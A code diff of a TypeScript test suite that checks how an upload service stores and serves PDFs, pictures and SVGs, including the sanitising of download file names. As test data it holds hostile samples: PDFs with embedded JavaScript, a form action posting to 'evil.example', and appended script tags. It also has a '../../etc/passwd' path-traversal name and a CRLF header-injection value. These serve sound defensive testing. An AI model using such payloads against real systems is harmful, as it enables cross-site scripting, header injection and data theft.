@@ -1,7 +1,8 @@
 import { deflateSync } from 'node:zlib';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { PICTURE_WIDTHS, pictureVariant } from '@feria/shared';
+import { namedUpload, PICTURE_WIDTHS, pictureVariant } from '@feria/shared';
+import { fileNameOf } from '@feria/shared/rules/content-disposition';
 import sharp from 'sharp';
 import { createTestApp, type TestApp } from '../support/app.js';
 import { someParent, someStaff, type Staff } from '../support/builders.js';
@@ -120,19 +121,65 @@ describe('uploads', () => {
     });
   });
 
-  it('takes a PDF as it is and serves it as nothing else', async () => {
-    for (const path of ['/api/course/upload', '/api/courseWeek/upload', '/api/document/upload']) {
-      const { body } = await send('file', somePdf(), 'x', path).expect(200);
-      const served = await app.http().get(body.data).expect(200);
-      expect(served.body).toEqual(somePdf());
-      expect(served.headers).toMatchObject({
-        'content-type': 'application/pdf',
-        'x-content-type-options': 'nosniff',
-        'content-security-policy': "default-src 'none'; frame-ancestors 'none'; style-src 'unsafe-inline'",
-        'content-disposition': expect.stringMatching(/^inline; filename="[0-9a-f]{32}\.pdf"$/),
-      });
-    }
-    await send('file', somePdf(), 'x', '/api/option/upload').expect(200);
+  describe('of PDF files', () => {
+    /** The same PDF with an object that does something. */
+    const withObject = (object: string): Buffer => {
+      const text = somePdf().toString('latin1');
+      return Buffer.from(text.replace('\nxref\n', `\n9 0 obj\n${object}\nendobj\nxref\n`), 'latin1');
+    };
+
+    it.each([
+      ['a leaflet', somePdf()],
+      ['with a script', withObject('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
+      ['with a script in what looks like a comment', withObject('%stream << /S /JavaScript >> %endstream')],
+      ['with a form that is sent somewhere', withObject('<< /S /SubmitForm /F (https://evil.example) >>')],
+      ['with a page behind it', Buffer.concat([somePdf(), Buffer.from('<script>alert(1)</script>')])],
+    ])('keeps %s as it is, and browsers save it and do not show it', async (_, bytes) => {
+      for (const path of ['/api/course/upload', '/api/courseWeek/upload', '/api/document/upload']) {
+        const { body } = await send('file', bytes, 'x', path).expect(200);
+        const served = await app.http().get(body.data).expect(200);
+        expect(served.body).toEqual(bytes);
+        expect(served.headers).toMatchObject({
+          'content-type': 'application/pdf',
+          'x-content-type-options': 'nosniff',
+          'content-security-policy': "default-src 'none'; frame-ancestors 'none'; sandbox",
+          'content-disposition': expect.stringMatching(/^attachment; filename="?[0-9a-f]{32}\.pdf"?$/),
+        });
+      }
+      await send('file', bytes, 'x', '/api/option/upload').expect(200);
+    });
+
+    it.each([
+      ['Programm Waldwochen', 'Programm-Waldwochen.pdf'],
+      ['Programm „Öko“ / Wald: 1', 'Programm-„Öko“-Wald-1.pdf'],
+      ['../../etc/passwd', '..-..-etc-passwd.pdf'],
+      ['x.exe', 'x.exe.pdf'],
+      ['a"\r\nSet-Cookie: x=1', 'a-Set-Cookie-x=1.pdf'],
+      ['<script>', 'script.pdf'],
+      [`${'x'.repeat(119)}😀😀`, `${'x'.repeat(119)}😀.pdf`],
+      [' / ', 'file.pdf'],
+    ])('is saved under the name that its link gives: %j', async (wanted, saved) => {
+      const { body } = await send('file', somePdf()).expect(200);
+      const { headers } = await app.http().get(namedUpload(body.data, wanted)).expect(200);
+      expect(headers['content-disposition']).toMatch(/^attachment; filename/);
+      expect(fileNameOf(headers['content-disposition'] ?? null)).toBe(saved);
+      expect(headers['content-type']).toBe('application/pdf');
+    });
+
+    it('is saved under its own name when the link gives several, or none', async () => {
+      const { body } = await send('file', somePdf()).expect(200);
+      const own = body.data.replace('/uploads/', '');
+      for (const query of ['', '?name=a&name=b', '?name[x]=a']) {
+        const { headers } = await app.http().get(`${body.data}${query}`).expect(200);
+        expect(headers['content-disposition']).toBe(`attachment; filename=${own}`);
+      }
+    });
+
+    it('gives no other name or treatment to a picture', async () => {
+      const { body } = await send('image', await somePicture()).expect(200);
+      const { headers } = await app.http().get(namedUpload(body.data, 'x.html')).expect(200);
+      expect(headers['content-disposition']).toMatch(/^inline; filename="[0-9a-f]{32}\.webp"$/);
+    });
   });
 
   it.each([
@@ -154,12 +201,6 @@ describe('uploads', () => {
     afterEach(async () => expect([uploadedFiles(app), await knownUploads(app)]).toEqual(before));
 
     const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
-    const withJavaScript = Buffer.from(
-      somePdf()
-        .toString('latin1')
-        .replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript >>'),
-      'latin1',
-    );
 
     it.each<[string, string, Buffer | (() => Promise<Buffer>)]>([
       ['an SVG that calls itself a PNG', 'image', svg],
@@ -180,8 +221,7 @@ describe('uploads', () => {
             .tiff()
             .toBuffer(),
       ],
-      ['a PDF with a script', 'file', withJavaScript],
-      ['a PDF with a page behind it', 'file', Buffer.concat([somePdf(), Buffer.from('<script>x</script>')])],
+      ['the first bytes of a PDF and no version', 'file', Buffer.from('%PDF-<script>alert(1)</script>')],
       ['a page with a PDF behind it', 'file', Buffer.concat([Buffer.from('<script>x</script>'), somePdf()])],
     ])('%s', async (_, part, content) => {
       const bytes = typeof content === 'function' ? await content() : content;
